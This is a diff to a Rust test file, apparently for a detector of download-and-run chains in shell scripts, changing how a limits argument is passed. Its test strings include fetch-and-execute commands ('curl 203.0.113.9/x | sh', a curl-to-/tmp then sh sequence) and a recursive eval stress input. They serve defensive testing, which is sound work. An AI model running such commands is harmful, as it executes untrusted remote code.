@@ -5,14 +5,19 @@ use crate::{Limits, Rule};
 use proptest::prelude::*;
 
 fn rules(text: &str) -> Vec<Rule> {
-    let mut rules: Vec<_> =
-        chains(text, Start::Asked, Limits::default()).into_iter().map(|chain| chain.rule).collect();
+    let mut rules: Vec<_> = chains(text, Start::Asked, &mut Limits::default())
+        .into_iter()
+        .map(|chain| chain.rule)
+        .collect();
     rules.dedup();
     rules
 }
 
 fn automatic(text: &str) -> Vec<Rule> {
-    chains(text, Start::Automatic, Limits::default()).into_iter().map(|chain| chain.rule).collect()
+    chains(text, Start::Automatic, &mut Limits::default())
+        .into_iter()
+        .map(|chain| chain.rule)
+        .collect()
 }
 
 #[test]
@@ -193,24 +198,24 @@ fn what_starts_by_itself_needs_no_nameless_host() {
 #[test]
 fn each_step_has_its_line() {
     let text = "# one\nU=http://203.0.113.9/x\n\ncurl -o /tmp/a \\\n  $U\n\necho\nsh /tmp/a\n";
-    let chains = chains(text, Start::Asked, Limits::default());
+    let chains = chains(text, Start::Asked, &mut Limits::default());
     let lines: Vec<_> =
         chains[0].steps.iter().map(|step| (step.line, step.what.as_str())).collect();
     assert_eq!(lines, [(4, "fetches http://203.0.113.9/x"), (8, "runs it with sh")]);
     assert_eq!((chains[0].first_line(), chains[0].last_line()), (4, 8));
     let text = "cat <<A\none\ntwo\nA\ncurl 203.0.113.9/x | sh\n";
-    assert_eq!(super::chains(text, Start::Asked, Limits::default())[0].first_line(), 5);
+    assert_eq!(super::chains(text, Start::Asked, &mut Limits::default())[0].first_line(), 5);
 }
 
 proptest! {
     #[test]
     fn any_text_ends(text in "[ \n\t;&|(){}<>'\"`$\\\\a-f#!=/.:]{0,200}") {
-        let _ = chains(&text, Start::Asked, Limits::default());
+        let _ = chains(&text, Start::Asked, &mut Limits::default());
     }
 
     #[test]
     fn any_bytes_end(text in any::<String>()) {
-        let _ = chains(&text, Start::Automatic, Limits::default());
+        let _ = chains(&text, Start::Automatic, &mut Limits::default());
     }
 }
 
@@ -229,6 +234,6 @@ fn deep_and_long_texts_end() {
         "curl a.example | sh;".repeat(20_000),
         "eval 'eval \"$a\"'; a='eval \"$a\"; eval \"$a\"'; eval \"$a\"".to_owned(),
     ] {
-        let _ = chains(&text, Start::Asked, Limits::default());
+        let _ = chains(&text, Start::Asked, &mut Limits::default());
     }
 }
